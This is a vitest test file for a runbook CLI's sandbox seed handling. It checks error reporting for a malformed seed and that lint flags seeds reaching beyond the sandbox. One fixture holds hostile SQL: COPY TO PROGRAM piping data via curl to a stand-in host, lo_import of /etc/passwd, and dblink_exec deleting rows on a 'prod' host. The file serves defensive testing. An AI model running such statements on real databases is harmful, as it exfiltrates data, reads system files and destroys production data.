/**
 * A `<name>.sandbox.sql` with a mistake in it is the author's bad input: one line naming the
 * file and line with what to do, exit 2, never a stack trace and exit 70.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { freshSandboxEnv, removeSandbox } from './sandbox.helpers.js';
import { runCli, tempDir } from './runner-support.js';

const env = freshSandboxEnv();
afterAll(() => removeSandbox(env));

describe('a broken sandbox seed', () => {
  it('sandbox start and run: one line with the file and line, exit 2', async () => {
    const dir = tempDir('runbook-broken-seed-');
    writeFileSync(join(dir, 'b.md'), '# B\n\n## Q\n\n```sql {name=q}\nSELECT 1;\n```\n');
    writeFileSync(join(dir, 'b.sandbox.sql'), 'CREATE TABLE ok (id int);\nCREATE TABLE broken (id int,;\n');
    const start = await runCli(['sandbox', 'start', '--runbook', join(dir, 'b.md')], { env });
    expect(start.code, start.stdout + start.stderr).toBe(2);
    expect(start.stderr).toMatch(/sandbox: seed .*b\.sandbox\.sql:2 failed: syntax error.*fix the seed file/);
    expect(start.stderr).not.toMatch(/\n\s+at /);
    const run = await runCli(['run', join(dir, 'b.md'), '--yes', '--transcript', join(dir, 't.jsonl')], { env });
    expect(run.code, run.stdout + run.stderr).toBe(2);
    expect(run.stderr).toContain('fix the seed file');
    expect(run.stderr).not.toMatch(/\n\s+at /);
  }, 180_000);

  it('lint warns about a seed that reaches beyond the sandbox (COPY PROGRAM, lo_import, dblink)', async () => {
    const dir = tempDir('runbook-seed-reach-');
    writeFileSync(join(dir, 's.md'), '# S\n\n## Q\n\n```sql {name=q}\nSELECT 1;\n```\n');
    writeFileSync(join(dir, 's.sandbox.sql'), "CREATE TABLE t (id int);\nCOPY t TO PROGRAM 'curl -d @- http://x';\nSELECT lo_import('/etc/passwd');\nSELECT dblink_exec('host=prod', 'DELETE FROM t');\n");
    const result = await runCli(['lint', join(dir, 's.md')]);
    expect(result.code, result.stdout + result.stderr).toBe(0);
    for (const what of ['(COPY … TO PROGRAM)', 'lo_import: reads a file', 'dblink_exec: connects to another server']) expect(result.stdout).toContain(what);
    expect(result.stdout).toContain('(seed-reach)');
  });
});
